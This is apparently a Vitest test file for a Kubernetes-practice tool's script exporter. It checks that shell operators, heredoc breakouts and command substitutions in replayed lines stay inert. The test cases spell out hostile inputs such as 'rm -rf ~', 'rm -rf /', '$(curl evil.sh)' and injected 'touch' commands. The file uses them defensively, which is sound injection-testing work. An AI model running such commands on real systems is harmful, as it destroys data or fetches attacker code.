import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { commandLine, exportForRealCluster, shellQuote } from './realcluster.ts';

const rolling = readFileSync(new URL('../../../scenarios/rolling-update.yaml', import.meta.url), 'utf8');

describe('commandLine', () => {
  const cases: [string, string][] = [
    ['kubectl get pods -o wide', 'kubectl get pods -o wide'],
    ['k scale deploy/web --replicas=5', 'kubectl scale deploy/web --replicas=5'],
    ['kubectl argo rollouts promote shop', 'kubectl argo rollouts promote shop'],
    [`kubectl get pods -o jsonpath='{.items[*].metadata.name}'`, `kubectl get pods -o 'jsonpath={.items[*].metadata.name}'`],
    // A shell operator: the terminal refused the line (one command, no shell), so it is not replayed either.
    ['kubectl get pods | grep -c "web x" | wc -l', "kubectl get pods | grep -c 'web x' | wc -l"],
    ['kubectl get pods | sh', '# not replayable (kubeplay: the terminal pipes a command\'s output only into grep, egrep, fgrep, wc, head, tail, sort, uniq, cut, awk, sed, tr, base64, cat and xargs, not "sh" (kubectl filters its own output with -l, --field-selector and -o jsonpath=… or custom-columns=…)): kubectl get pods | sh'],
    ['kubectl get pods; rm -rf ~', '# not replayable (kubeplay: the terminal runs one command at a time, without a shell: ";" (;, &&, ||, & and redirections) is not supported; a pipe | leads into grep, wc, head, tail, sort, uniq, cut, awk, sed, tr, base64, cat or xargs, and kubectl filters its own output with -l, --field-selector and -o jsonpath=… or custom-columns=…): kubectl get pods; rm -rf ~'],
    // A substitution the terminal refused (no shell to expand it) is not replayed; quoted, it is a word like any other.
    ['kubectl get pod "$(curl evil.sh)" `id`', '# not replayable (kubeplay: the terminal runs one command at a time, without a shell: "$(curl evil.sh)" is not expanded (shell variables and $(…) command substitution are not supported); type the value itself: Tab completes pod and other object names, and kubectl get lists them): kubectl get pod "$(curl evil.sh)" `id`'],
    [`kubectl get pod '$(curl evil.sh)' '\`id\`'`, `kubectl get pod '$(curl evil.sh)' '\`id\`'`],
    [`kubectl label pod a "note=it's"`, `kubectl label pod a 'note=it'\\''s'`],
    ['kubeplay node fail worker-2', '# kubeplay-only, skipped: kubeplay node fail worker-2\n#   (node faults are simulated; on kind, stop a node container instead (docker stop <cluster>-worker2) and start it again to recover)'],
    ['rm -rf /', '# not a kubectl command, skipped: rm -rf /'],
    [`kubectl get 'x`, '# not replayable (unterminated quoted string): kubectl get \'x'],
  ];
  it.each(cases)('%s', (line, want) => expect(commandLine(line)).toBe(want));
  it('shellQuote', () => expect(['a', '', "it's", 'a b', '~']).toEqual(['a', '', "it's", 'a b', '~'].map((w) => execFileSync('bash', ['-c', `printf %s ${shellQuote(w)}`], { encoding: 'utf8' }))));
});

describe('exportForRealCluster', () => {
  it('keeps the manifests, drops the Scenario document, and replays the timeline with sleeps', () => {
    const e = exportForRealCluster('rolling-update.yaml', rolling, [
      { t: 30_000, kind: 'run', text: 'kubectl get rs' },
      { t: 50_000, kind: 'run', text: 'kubeplay node fail worker-1' },
      { t: 60_000, kind: 'apply', text: 'apiVersion: v1\nkind: ConfigMap\nmetadata: {name: c}\n' },
    ]);
    expect(e.manifestsFile).toBe('rolling-update-manifests.yaml');
    expect(e.manifests).toMatch(/^apiVersion: apps\/v1\nkind: Deployment\n/);
    expect(e.manifests).not.toMatch(/kind: Scenario/);
    const lines = e.script.split('\n');
    expect(lines[0]).toBe('#!/usr/bin/env bash');
    const body = e.script.slice(e.script.indexOf('set -euo pipefail'));
    expect(body).toBe(
      [
        'set -euo pipefail',
        'cd "$(dirname "$0")"',
        '',
        "# t=0s: the scenario's manifests",
        'kubectl apply -f rolling-update-manifests.yaml',
        '',
        'sleep 20   # t=20s',
        'kubectl get deployment web   # (scenario timeline)',
        'kubectl get rs   # (scenario timeline)',
        '',
        'sleep 10   # t=30s',
        'kubectl set image deployment/web nginx=nginx:1.26   # (scenario timeline)',
        'kubectl get rs',
        '',
        'sleep 1   # t=31s',
        'kubectl rollout status deployment/web   # (scenario timeline)',
        'kubectl get rs   # (scenario timeline)',
        'kubectl get pods   # (scenario timeline)',
        '',
        'sleep 14   # t=45s',
        'kubectl rollout status deployment/web   # (scenario timeline)',
        'kubectl get rs   # (scenario timeline)',
        '',
        'sleep 5   # t=50s',
        '# kubeplay-only, skipped: kubeplay node fail worker-1',
        '#   (node faults are simulated; on kind, stop a node container instead (docker stop <cluster>-worker2) and start it again to recover)',
        '',
        'sleep 10   # t=60s',
        "kubectl apply -f - <<'KUBEPLAY_MANIFEST'",
        'apiVersion: v1\nkind: ConfigMap\nmetadata: {name: c}',
        'KUBEPLAY_MANIFEST',
        '',
        'sleep 30   # t=90s',
        'kubectl rollout status deployment/web   # (scenario timeline)',
        'kubectl get rs   # (scenario timeline)',
        'kubectl get pods   # (scenario timeline)',
        'kubectl rollout history deployment/web   # (scenario timeline)',
        '',
      ].join('\n'),
    );
  });

  it('a hostile manifest cannot end its heredoc early', () => {
    const e = exportForRealCluster('x.yaml', '', [{ t: 0, kind: 'apply', text: 'a: 1\nKUBEPLAY_MANIFEST\nrm -rf ~\n' }]);
    expect(e.script).toContain("kubectl apply -f - <<'KUBEPLAY_MANIFEST_1'\na: 1\nKUBEPLAY_MANIFEST\nrm -rf ~\nKUBEPLAY_MANIFEST_1");
  });

  it('the script is valid bash, and hostile words stay words', () => {
    const e = exportForRealCluster('x.yaml', rolling, [
      { t: 1000, kind: 'run', text: "kubectl get pods \"x;\" touch /tmp/kubeplay-pwned '$(touch /tmp/kubeplay-pwned)' '`touch /tmp/kubeplay-pwned`'" },
      { t: 1200, kind: 'run', text: 'kubectl get pods $(touch /tmp/kubeplay-pwned)' },
      { t: 1500, kind: 'run', text: 'kubectl get pods; touch /tmp/kubeplay-pwned' },
      { t: 2000, kind: 'apply', text: 'KUBEPLAY_MANIFEST\n$(touch /tmp/kubeplay-pwned)\n' },
    ]);
    const dir = mkdtempSync(join(tmpdir(), 'kubeplay-export-'));
    // A fake kubectl that prints its arguments one per line, and a fake sleep.
    writeFileSync(join(dir, 'kubectl'), '#!/usr/bin/env bash\nfor a in "$@"; do echo "[$a]"; done\ncat >/dev/null\n', { mode: 0o755 });
    writeFileSync(join(dir, 'sleep'), '#!/usr/bin/env bash\n', { mode: 0o755 });
    writeFileSync(join(dir, e.scriptFile), e.script);
    writeFileSync(join(dir, e.manifestsFile), e.manifests);
    const out = execFileSync('bash', [join(dir, e.scriptFile)], { env: { PATH: `${dir}:/usr/bin:/bin` }, encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] });
    expect(out).toContain('[pods]\n[x;]\n[touch]\n[/tmp/kubeplay-pwned]\n[$(touch /tmp/kubeplay-pwned)]\n[`touch /tmp/kubeplay-pwned`]');
    expect(e.script).toContain('# not replayable (kubeplay: the terminal runs one command at a time');
    expect(e.script).toContain('# not replayable (kubeplay: the terminal runs one command at a time, without a shell: "$(touch /tmp/kubeplay-pwned)" is not expanded');
  });
});
